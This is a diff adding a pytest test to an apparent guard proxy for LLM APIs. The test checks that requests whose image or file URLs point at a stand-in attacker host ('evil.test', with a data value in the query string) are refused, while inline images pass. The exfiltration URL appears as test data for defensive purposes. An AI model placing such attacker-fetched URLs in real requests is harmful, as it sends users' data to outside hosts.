@@ -342,3 +342,40 @@ async def test_an_error_answer_that_may_carry_calls_and_cannot_be_read_is_refuse
     for status in (400, 200):
         with pytest.raises(MessageError):
             await enforcement.responses.on_answer(exchange, body, status)
+
+
+PICTURE = "https://evil.test/p.png?d=balance-4711"
+PICTURED = {
+    "openai_chat": [
+        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": image}]}]}
+        for image in ({"url": PICTURE}, PICTURE)
+    ],
+    "openai_responses": [
+        {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": PICTURE}]}]},
+        {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": PICTURE}]}]},
+    ],
+    "anthropic_messages": [
+        {"messages": [{"role": "user", "content": [{"type": kind, "source": source}]}]}
+        for kind in ("image", "document")
+        for source in ({"type": "url", "url": PICTURE},)
+    ],
+    "gemini": [
+        {"contents": [{"role": "user", "parts": [{name: {member: PICTURE}}]}]}
+        for name, member in (("fileData", "fileUri"), ("file_data", "file_uri"))
+    ],
+}
+
+
+@pytest.mark.parametrize(
+    ("kind", "body"), [(kind, body) for kind in FORMATS for body in PICTURED[kind]]
+)
+async def test_a_url_that_the_provider_fetches_is_a_send(
+    enforcement: Enforcement, kind: str, body: dict[str, Any]
+) -> None:
+    """Its host is told the query around the guard; a picture that is sent along is none."""
+    outcome = await enforcement.requests.on_request(ask(kind, body))
+    inline = json.loads(json.dumps(body).replace(PICTURE, "data:image/png;base64,AAAA"))
+
+    assert isinstance(outcome, HttpReply)
+    assert outcome.status == 403
+    assert await forwarded(enforcement, ask(kind, inline))
